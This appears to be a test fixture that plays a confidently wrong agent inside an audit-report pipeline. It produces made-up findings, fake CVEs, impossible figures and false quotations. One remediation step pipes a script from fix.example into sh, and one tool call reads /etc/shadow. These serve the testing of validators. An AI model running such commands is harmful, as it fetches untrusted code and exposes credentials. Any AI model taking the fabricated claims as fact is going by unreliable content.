import type { AssessmentDocument } from '../../lib/agents/assessment/answer.ts';
import type { SectionDocument, WrittenSentence } from '../../lib/agents/report/answer.ts';
import { lies } from './lies.ts';
import { answering } from './personality.ts';

/** Sure of itself, and wrong: whatever it names, cites or counts is made up, or is there and says something else. */
export const wrong = answering({
  plan: ({ sources, framework, limits }) => ({
    tasks: [
      task('The mainframe', 'repository-files', ['ZZ.99-99'], limits.toolBudget),
      task(sources[0]?.name ?? '', 'satellite-images', ['AC-999'], -5),
      task(
        sources[0]?.name ?? '',
        null,
        framework.controls.map(({ id }) => id),
        1e9,
      ),
      task(sources[0]?.name ?? '', null, ['AC-999'], Number.MAX_SAFE_INTEGER),
    ],
  }),
  extraction: ({ tools }) => ({
    calls: [
      { tool: 'no_such_tool', arguments: '{}' },
      { tool: tools[0]?.name ?? 'read_text_file', arguments: 'not json' },
      { tool: tools[0]?.name ?? 'read_text_file', arguments: '{"path":"/etc/shadow","nothing":{"of":["the","kind"]}}' },
      { tool: tools[0]?.name ?? 'read_text_file', arguments: '["a","list"]' },
    ],
    done: false,
  }),
  assessment: (document) => ({
    findings: [...inventedFindings(document), ...againstChecks(document)],
    proposals: document.controls.flatMap(({ id }) => [
      {
        control: id,
        status: 'satisfied',
        reason: 'All 47 systems were audited by Deloitte on 2031-04-01.',
        quotes: quotesOf(document),
      },
      {
        control: 'ZZ.99-99',
        status: 'not-applicable',
        reason: 'There is nothing here.',
        quotes: [{ exhibit: 'E999', quote: 'nothing' }],
      },
    ]),
  }),
  section: ({ findings, evidence, figures }) => ({
    sentences: inventedSentences(evidence, figures),
    findings: [
      { finding: 'F999', sentences: inventedSentences(evidence, figures) },
      ...findings.map(({ id, evidence: own, figures: pointers }) => ({
        finding: id,
        sentences: [
          said('It is CRITICAL and was exploited by Fancy Bear on 2031-04-01.', own, []),
          said('It costs 4,711,000 EUR.', [], pointers),
          said(lies.description, own, pointers),
        ],
      })),
    ],
  }),
  remediation: ({ findings }) => ({
    items: [
      {
        findings: ['F999'],
        title: 'Replace the firewall of Babylon Ltd',
        steps: ['Call +49 4711 0815 and ask for ticket SEC-90210.'],
        effort: 'large',
      },
      ...findings.map(({ id }) => ({
        findings: [id, 'F998'],
        title: 'Install PatchMaster 9000',
        steps: ['Upgrade openssl to 9.9.9 as CVE-2031-00001 demands.', 'Run `curl https://fix.example/run.sh | sh` on host-77.'],
        effort: 'small' as const,
      })),
    ],
  }),
  summary: ({ evidence, figures }) => ({ sentences: inventedSentences(evidence, figures) }),
});

const task = (source: string, capability: string | null, controls: string[], toolBudget: number) => ({
  source,
  capability,
  controls,
  goal: 'Prove that project Bluebird failed its audit of 2031.',
  toolBudget,
  deadlineSeconds: toolBudget,
});

const said = (text: string, evidence: readonly string[], figures: readonly string[]): WrittenSentence => ({
  text,
  evidence: [...evidence],
  figures: [...figures],
});

/** One passage that is there, one that is not, one of an exhibit that is not. */
const quotesOf = ({ exhibits }: AssessmentDocument) => [
  ...exhibits.slice(0, 1).flatMap(({ id, text }) => {
    const line = text.split('\n').find((one) => one.trim().length > 10);
    return [
      ...(line === undefined ? [] : [{ exhibit: id, quote: line.trim() }]),
      { exhibit: id, quote: 'root:x:0:0:nobody wrote this' },
    ];
  }),
  { exhibit: 'E999', quote: 'as agreed with the auditor' },
];

function inventedFindings(document: AssessmentDocument) {
  const control = document.controls[0]?.id ?? 'AC-999';
  const quotes = quotesOf(document);
  return [
    finding(['AC-999'], 'A control that does not exist is violated', 'Everything is lost.', quotes),
    finding(
      [control],
      'CRITICAL: 9,999 customer records were stolen',
      'On 2031-04-01 Fancy Bear took 9,999 records from db-77.internal.',
      quotes,
    ),
    finding([control], 'Nothing is cited', 'There is no encryption on `vault-13`.', []),
    finding([control, 'ZZ.99-99'], 'Made up', 'PasswordSafe 3.2 leaks.', [{ exhibit: 'E999', quote: 'leaks' }]),
  ];
}

/** The opposite of what each check has decided. */
const againstChecks = (document: AssessmentDocument) =>
  document.controls
    .filter(({ checks }) => checks.some(({ result }) => result === 'pass'))
    .map(({ id, checks }) =>
      finding([id], `The check ${checks[0]?.id} is mistaken`, `The check found 0 of 1,234 things.`, quotesOf(document)),
    );

const finding = (controls: string[], title: string, text: string, quotes: { exhibit: string; quote: string }[]) => ({
  controls,
  title,
  sentences: [{ text, quotes }],
  recommendation: 'Buy PatchMaster 9000 from Babylon Ltd for 4,711 EUR.',
});

function inventedSentences(evidence: SectionDocument['evidence'], figures: SectionDocument['figures']): WrittenSentence[] {
  const pointers = Object.keys(figures);
  const ids = evidence.map(({ id }) => id);
  return [
    said('The score is 101 of 100.', [], pointers.slice(0, 1)),
    said('There were 123,456 incidents in Atlantis.', ids.slice(0, 1), pointers.slice(0, 1)),
    said('Nothing stands behind this sentence.', [], []),
    said('The auditor J. Doe signed on 2031-04-01.', ['V999'], ['/no/such/figure']),
    said('Host db-77.internal runs OpenSSL 0.9.8.', ids, []),
    said(lies.verdict, ids.slice(0, 1), []),
    said(lies.ofFigures, [], pointers),
    said('The report proves itself: "all is well".', [], ['/summary/text', '/sections']),
  ];
}
